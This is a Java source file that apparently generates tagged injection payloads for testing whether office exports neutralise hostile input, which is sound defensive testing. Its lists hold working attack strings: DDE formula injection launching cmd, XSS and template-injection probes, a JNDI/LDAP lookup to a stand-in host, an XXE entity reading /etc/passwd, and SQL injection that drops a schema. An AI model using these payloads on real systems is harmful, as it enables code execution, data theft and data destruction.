package org.reciproque.office.injection;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.reciproque.api.base.Legible;

/**
 * A text that would do something in one of the places where it comes out.
 *
 * @param family what it tries
 * @param token letters that no other text has, so that it is found again wherever it comes out
 */
record Payload(String family, String token, String text) {

    /** What an expression that was computed leaves behind. */
    static final String COMPUTED = String.valueOf(7919 * 6997);

    /** Where those that call out would call. */
    static final String ELSEWHERE = "zq.example";

    /** What is in the name of each element and each attribute that a payload would make. */
    static final String LIVE = "zqlive";

    private static final int LETTERS = 8;

    /** Families one after the other; T is the token. In a formula it comes last. */
    private static final List<Family> FAMILIES = List.of(
            new Family(
                    "formula",
                    "=1+1&\"T\"",
                    "=HYPERLINK(\"http://zq.example/T\";\"T\")",
                    "=cmd|'/C calc'!A0 T",
                    "+SUM(1;2) T",
                    "-2+3+cmd|'/C calc'!A0 T",
                    "@SUM(1+1)*cmd|'/C calc'!A0 T",
                    "=DDE(\"cmd\";\"/C calc\";\"T\")",
                    "＝1+1 T",
                    "＋1 T",
                    "\t=1+1 T",
                    "\r=1+1 T",
                    "\"=1+1 T",
                    "\";=1+1;\"T",
                    "T,=1+1",
                    "T\t=1+1",
                    "T\n=1+1",
                    "T\",\"=1+1",
                    "T\r\n\"@SUM(1)"),
            new Family(
                    "markup",
                    "<img src=x onerror=zqlive() data-zqlive>T",
                    "<svg/onload=zqlive() data-zqlive>T",
                    "</textarea><script>zqlive('T')</script>",
                    "</title></head><zqlive-x>T",
                    "<iframe srcdoc='<script>zqlive()</script>' data-zqlive>T",
                    "<a href=javascript:zqlive() data-zqlive>T</a>",
                    "<style data-zqlive>*{display:none}</style>T",
                    "<base href=//zq.example data-zqlive>T",
                    "<form action=//zq.example data-zqlive><input name=T></form>",
                    "<!-- T",
                    "]]> T <![CDATA[",
                    "<math><mi xlink:href='javascript:zqlive()' data-zqlive>T",
                    "<meta http-equiv=refresh content='0;url=//zq.example' data-zqlive>T",
                    "&lt;T&gt; &#60;b&#62;"),
            new Family(
                    "attribute",
                    "\" onmouseover=\"zqlive()\" data-zqlive=\"T",
                    "' onmouseover='zqlive()' data-zqlive='T",
                    "\" autofocus onfocus=zqlive() data-zqlive=\"T",
                    "\"><b data-zqlive>T</b>",
                    "'><b data-zqlive>T</b>",
                    "T` onclick=zqlive() data-zqlive=`",
                    "T\" style=\"position:fixed\" data-zqlive=\""),
            new Family(
                    "script",
                    "javascript:zqlive('T')",
                    "JaVaScRiPt\t:zqlive('T')",
                    "';zqlive('T')//",
                    "\\';zqlive('T')//",
                    "${zqlive('T')}",
                    "\\u003cscript\\u003ezqlive('T')\\u003c/script\\u003e",
                    "data:text/html,<script>zqlive('T')</script>"),
            new Family(
                    "template",
                    "T [[${7919*6997}]]",
                    "T [(${7919*6997})]",
                    "${7919*6997} T",
                    "#{7919*6997} T",
                    "*{7919*6997} T",
                    "__${7919*6997}__::.x T",
                    "T @{/zq(a=${7919*6997})}",
                    "{{7919*6997}} T",
                    "{{network}} T",
                    "<%= 7919*6997 %> T",
                    "~{frame :: page} T",
                    "T ${T(java.lang.Runtime).getRuntime()}",
                    "T $F{name} $P{REPORT_CONNECTION} $V{PAGE_NUMBER}",
                    "T $1 \\1 %s %n {} {0}"),
            new Family(
                    "htmx",
                    "\" hx-get=\"/deconnexion\" hx-trigger=\"load\" data-zqlive=\"T",
                    "<div hx-get=/ hx-trigger=load data-zqlive>T</div>",
                    "<div hx-on:load=zqlive() data-zqlive>T</div>",
                    "<div data-hx-post=/reseau/themes hx-trigger=load data-zqlive>T</div>"),
            new Family(
                    "address",
                    "//zq.example/T",
                    "http://zq.example/T",
                    "T@zq.example?bcc=x@zq.example&body=zq",
                    "T%0d%0aSet-Cookie:zqlive=1",
                    "/\\zq.example/T",
                    "T?suite=/\\zq.example"),
            new Family(
                    "document",
                    "T) /OpenAction << /S /JavaScript /JS (zq) >> (",
                    "T << /S /URI /URI (http://zq.example) >>",
                    "T endstream endobj 1 0 obj << /JS (zq) >>",
                    "{ HYPERLINK \"http://zq.example/T\" }",
                    "{ INCLUDETEXT \"http://zq.example/T\" }",
                    "T</w:t></w:r><w:fldSimple w:instr=\"DDEAUTO zq\"/>",
                    "T<w:hyperlink r:id=\"zq\"><w:r/></w:hyperlink>",
                    "<!DOCTYPE x [<!ENTITY zq SYSTEM \"file:///etc/passwd\">]>T&zq;",
                    "<style isBold=\"true\">T</style>",
                    "T](javascript:zqlive()) ![x](//zq.example)"),
            new Family(
                    "line",
                    "T\r\nATTENDEE:mailto:x@zq.example",
                    "T\nBEGIN:VALARM\nACTION:AUDIO\nEND:VALARM",
                    "T\r\nEND:VEVENT\r\nBEGIN:VEVENT",
                    "T\r\nSet-Cookie: zqlive=1",
                    "T\u2028URL:http://zq.example",
                    "T\u0085ATTACH:http://zq.example",
                    "T;ALTREP=\"http://zq.example\":zq",
                    "T\n12:00:00 ERROR Root - zqlive",
                    "T\u001b[2J\u001b]0;zq\u0007",
                    "${jndi:ldap://zq.example/T}"),
            new Family(
                    "file",
                    "../../T.csv",
                    "..\\..\\T.csv",
                    "CON",
                    "NUL.txt T",
                    ".T",
                    "T:zq",
                    "T%00.pdf",
                    "~/T",
                    "T/../../etc/passwd",
                    "T\u202evsc.exe",
                    "T\".exe; filename=\"zq.exe"),
            new Family(
                    "direction",
                    "\u202eT\u202c",
                    "\u2066T",
                    "T\u2067zq",
                    "\u200fT",
                    "T\u200b\u200d",
                    "T\u0301\u0301\u0301\u0301\u0301"),
            new Family("control", "T\u0000zq", "\u0000T", "T\b\u0007\u000b\f", "\ufeffT", "T\uffff", "T\u007f\u009b2J"),
            new Family(
                    "query", "T'; drop schema screens cascade; --", "T' or '1'='1", "T%_\\", "T\\u0000", "T$$ || $$"));

    /** One payload of each family comes before the first comes again. */
    static final int FAMILIES_IN_TURN = FAMILIES.size();

    private record Family(String name, List<String> texts) {

        Family(String name, String... texts) {
            this(name, List.of(texts));
        }
    }

    /** What the house keeps of it. */
    String legible() {
        return new Legible(text).text().strip();
    }

    /**
     * So many, all different, each family in turn; every text of a family once before any comes a second time, and then
     * with something before or behind it.
     */
    static List<Payload> some(int count, long seed) {
        Random dice = new Random(seed);
        List<Payload> made = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            Family family = FAMILIES.get(i % FAMILIES.size());
            int turn = i / FAMILIES.size();
            String text = family.texts().get(turn % family.texts().size());
            String token = token(dice);
            String affixed = turn < family.texts().size() ? text : affixed(text, dice);
            made.add(new Payload(
                    family.name(), token, affixed.contains("T") ? affixed.replaceFirst("T", token) : affixed));
        }
        return made;
    }

    /** As many as have each text of each family once. */
    static int once() {
        return FAMILIES.size()
                * FAMILIES.stream().mapToInt(f -> f.texts().size()).max().orElseThrow();
    }

    private static String affixed(String text, Random dice) {
        return switch (dice.nextInt(8)) {
            case 0 -> text + " " + text;
            case 1 -> text + "\"";
            case 2 -> text + "'>";
            case 3 -> text + "\n" + text;
            case 4 -> text + "\u0000";
            case 5 -> text + "\u202e";
            case 6 -> text + ";" + text;
            default -> text + " é ß 日本 🌱";
        };
    }

    private static String token(Random dice) {
        StringBuilder letters = new StringBuilder("zq");
        for (int i = 0; i < LETTERS; i++) {
            letters.append((char) ('a' + dice.nextInt(26)));
        }
        return letters.toString();
    }
}
